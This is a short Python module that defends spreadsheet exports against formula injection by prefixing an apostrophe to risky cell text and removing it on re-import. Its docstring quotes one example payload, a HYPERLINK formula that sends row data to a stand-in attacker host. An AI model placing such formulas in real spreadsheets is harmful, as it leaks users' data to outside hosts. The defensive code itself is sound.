"""Spreadsheet cells that stay text: the one rule of every XLSX and CSV the service writes
(the hazard ledger, layers/io/ledger.py; the layer exports, layers/io/export.py).

Spreadsheet programs (Excel, WPS, LibreOffice) run a cell whose text starts with = + - @ (or a
tab or carriage return before one) as a formula: `=HYPERLINK("http://evil.example/?x="&A1,…)`
typed as a hazard's name would send the row to another host when an editor opens the export.
Such text is written with a leading apostrophe, the spreadsheets' own "this is text" mark
(OWASP's advice for CSV injection); the import takes the apostrophe off again
(layers/io/read.py), so an export imports back as it was.
"""

from __future__ import annotations

# Spreadsheet programs run cell text that starts with these as a formula.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def neutralise(value):
    """Text that would run as a formula, marked as text; any other value unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return QUOTE + value
    return value


def restore(value):
    """The text `neutralise` was given (for the import of our own exports)."""
    if isinstance(value, str) and value.startswith(QUOTE) and value[1:2] in FORMULA_START:
        return value[1:]
    return value
